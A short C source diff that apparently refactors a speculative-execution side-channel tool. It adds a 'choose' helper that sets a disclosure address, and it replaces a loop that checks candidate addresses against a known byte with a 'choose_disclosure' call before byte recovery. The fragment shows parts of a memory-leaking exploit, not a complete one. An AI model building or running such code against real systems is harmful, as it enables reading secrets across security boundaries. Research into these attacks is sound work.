@@ -53,6 +53,11 @@ static void place_jump(int index, uint64_t last)
 	IN_MACHINE(&machine, branches)[0][index] = last - 1;
 }
 
+static void choose(uint64_t address)
+{
+	*IN_MACHINE(&machine, disclosure) = address;
+}
+
 static int read_byte(uint64_t address)
 {
 	const uint8_t *probe = array + SHARED_PROBE;
@@ -79,7 +84,7 @@ static int sample(int index)
 
 int main(int argc, char **argv)
 {
-	int known_was_read = 0, pipes[2];
+	int pipes[2];
 
 	parse_options(argc, argv);
 	if (!options.address || !options.branches.count || !options.disclosures.count)
@@ -96,10 +101,6 @@ int main(int argc, char **argv)
 	machine_create(&machine);
 	for (int i = 0; i < count; i++)
 		place_jump(i, options.branches.at[i]);
-	for (int i = 0; i < options.disclosures.count && !known_was_read; i++) {
-		*IN_MACHINE(&machine, disclosure) = options.disclosures.at[i];
-		known_was_read = reads_known_byte(read_byte, array + SHARED_KNOWN);
-	}
-	recover(sample, patience_after(known_was_read), 1);
+	recover(sample, choose_disclosure(choose, read_byte, array + SHARED_KNOWN), 1);
 	return 0;
 }
